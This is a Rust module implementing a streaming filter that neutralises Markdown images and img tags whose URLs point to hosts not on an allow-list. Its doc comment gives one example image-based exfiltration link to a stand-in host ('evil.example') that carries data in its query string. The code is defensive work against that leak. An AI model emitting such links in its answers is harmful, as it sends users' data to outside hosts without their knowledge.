//! Keeps an answer from having pictures of strangers loaded.
//!
//! A client that shows `![](https://evil.example/?q=...)` has told that host what stands in the address, without anybody's doing. Where
//! the operator wants it, only pictures stay that lie in the answer itself (`data:`), with whoever shows it (an address without a
//! host), or at hosts that the adapter's manifest declares. Any other gets one space, so that it is no picture any more: `! [a](b)`
//! is a link, and `< img` is text. Nothing is taken away, and nobody loads it without being asked to.
//!
//! What a client takes for a picture is decided by its Markdown, and there are many. So a picture stays only if it is written in the
//! one plain way that all of them read alike, and what stands in code is treated like the rest: a code block that one reader sees is
//! none for another. A piece may end anywhere; the result is the same however the text was cut up.

mod allowed;
mod tag;

pub use allowed::{Allowed, Verdict};
use tag::Tag;

/// Bytes of a description. A longer one is no picture.
const MAX_ALT: usize = 1000;
/// Bytes of an address before its host has been told.
const MAX_ADDRESS: usize = 2000;
/// Bytes of a title.
const MAX_TITLE: usize = 500;

/// Where in the text it is. What is held has not been passed on.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
enum Place {
    #[default]
    Text,
    /// After `!`.
    Bang,
    /// After `![`.
    Alt,
    /// After `![...]`.
    Described,
    /// After `![...](`; the address begins here in what is held.
    Address(usize),
    /// In an address that is allowed and passed on already.
    Allowed,
    /// After one, where a title or the end must follow.
    Title,
    /// After `<`.
    Tag(Tag),
}

/// Takes text in pieces and gives it with the pictures of strangers made harmless.
#[derive(Debug, Clone)]
pub struct ImageFilter {
    allowed: Allowed,
    place: Place,
    held: String,
}

impl ImageFilter {
    pub fn new(allowed: Allowed) -> Self {
        Self { allowed, place: Place::default(), held: String::new() }
    }

    /// Forgets the text of before.
    pub fn restart(&mut self) {
        self.place = Place::default();
        self.held.clear();
    }

    /// Takes a piece and gives what is certain.
    pub fn push(&mut self, piece: &str) -> String {
        let mut out = String::with_capacity(piece.len());
        for c in piece.chars() {
            self.take(c, &mut out);
        }
        out
    }

    /// No more text comes: gives what was held.
    pub fn finish(&mut self) -> String {
        let mut out = String::new();
        match std::mem::take(&mut self.place) {
            Place::Text => {}
            Place::Bang => out.push_str(&std::mem::take(&mut self.held)),
            Place::Allowed => out.push(')'),
            Place::Title => {
                out.push(')');
                self.again(&mut out);
                out.push_str(&self.finish());
            }
            Place::Tag(tag) if !tag.is_open() => out.push_str(&std::mem::take(&mut self.held)),
            Place::Alt | Place::Described | Place::Address(_) | Place::Tag(_) => {
                self.disarm(&mut out);
                out.push_str(&self.finish());
            }
        }
        out
    }

    fn take(&mut self, c: char, out: &mut String) {
        match &mut self.place {
            Place::Text => self.text(c, out),
            Place::Bang if c == '[' => self.hold(c, Place::Alt),
            Place::Bang => self.let_go(c, out),
            Place::Alt => match c {
                ']' => self.hold(c, Place::Described),
                // What binds tighter than a picture, or could be one itself.
                '[' | '`' | '<' | '\\' | '$' | '\n' | '\r' => self.no_picture(c, out),
                _ if self.held.len() >= MAX_ALT => self.no_picture(c, out),
                _ => self.held.push(c),
            },
            Place::Described if c == '(' => {
                let begins = self.held.len() + 1;
                self.hold(c, Place::Address(begins));
            }
            // Its address would stand elsewhere.
            Place::Described => self.no_picture(c, out),
            Place::Address(begins) => {
                let begins = *begins;
                self.address(c, begins, out);
            }
            Place::Allowed => self.rest_of_address(c, out),
            Place::Title => self.title(c, out),
            Place::Tag(tag) => {
                let step = tag.take(c, &self.allowed);
                self.tag(c, step, out);
            }
        }
    }

    fn text(&mut self, c: char, out: &mut String) {
        match c {
            '!' => self.hold(c, Place::Bang),
            '<' => self.hold(c, Place::Tag(Tag::default())),
            _ => out.push(c),
        }
    }

    fn address(&mut self, c: char, begins: usize, out: &mut String) {
        let ends = c == ')' || c.is_whitespace();
        if ends && c != ')' && self.held.len() == begins {
            // The address may begin behind it.
            return self.no_picture(c, out);
        }
        if !ends {
            self.held.push(c);
        }
        let verdict = self.allowed.verdict(self.held.get(begins..).unwrap_or_default(), ends);
        match verdict {
            Verdict::Allowed => {
                out.push_str(&std::mem::take(&mut self.held));
                self.place = Place::Allowed;
                if ends {
                    self.rest_of_address(c, out);
                }
            }
            Verdict::Open if self.held.len() - begins < MAX_ADDRESS => {}
            Verdict::Open | Verdict::Denied => {
                self.disarm(out);
                if ends {
                    self.take(c, out);
                }
            }
        }
    }

    /// The address goes on as long as all readers agree that it does. Otherwise it is ended here, or somebody could read on and see
    /// another picture.
    fn rest_of_address(&mut self, c: char, out: &mut String) {
        if allowed::is_plain(c) {
            out.push(c);
            return;
        }
        match c {
            ')' => {
                out.push(c);
                self.place = Place::Text;
            }
            ' ' => self.hold(c, Place::Title),
            _ => {
                out.push(')');
                self.place = Place::Text;
                self.take(c, out);
            }
        }
    }

    /// ` "..."` and the end.
    fn title(&mut self, c: char, out: &mut String) {
        self.held.push(c);
        let inner = self.held.get(2..).unwrap_or_default();
        let quotes = inner.matches('"').count();
        let fits = match c {
            _ if self.held.len() == 2 => c == '"',
            '"' => quotes == 1,
            ')' if quotes == 1 => {
                out.push_str(&std::mem::take(&mut self.held));
                self.place = Place::Text;
                return;
            }
            '[' | ']' | '`' | '<' | '\\' | '\n' | '\r' => false,
            _ => quotes == 0 && self.held.len() < MAX_TITLE,
        };
        if !fits {
            out.push(')');
            self.again(out);
        }
    }

    fn tag(&mut self, c: char, step: tag::Step, out: &mut String) {
        match step {
            tag::Step::More => self.held.push(c),
            tag::Step::Harmless => self.let_go(c, out),
            tag::Step::Allowed => {
                self.held.push(c);
                out.push_str(&std::mem::take(&mut self.held));
                self.place = Place::Text;
            }
            tag::Step::Denied => self.no_picture(c, out),
        }
    }

    fn hold(&mut self, c: char, place: Place) {
        self.held.push(c);
        self.place = place;
    }

    /// What is held was nothing, and `c` may begin something.
    fn let_go(&mut self, c: char, out: &mut String) {
        out.push_str(&std::mem::take(&mut self.held));
        self.place = Place::Text;
        self.take(c, out);
    }

    fn no_picture(&mut self, c: char, out: &mut String) {
        self.disarm(out);
        self.take(c, out);
    }

    /// Puts the space behind the first sign of what is held. What follows may hold the beginning of another picture; each begins behind
    /// the one before, so that no text is looked at more than a few times.
    fn disarm(&mut self, out: &mut String) {
        self.place = Place::Text;
        let held = std::mem::take(&mut self.held);
        let mut signs = held.chars();
        out.extend(signs.next());
        out.push(' ');
        signs.for_each(|c| self.take(c, out));
    }

    /// Looks at what is held once more, as text.
    fn again(&mut self, out: &mut String) {
        self.place = Place::Text;
        for c in std::mem::take(&mut self.held).chars() {
            self.take(c, out);
        }
    }
}

#[cfg(test)]
mod tests;
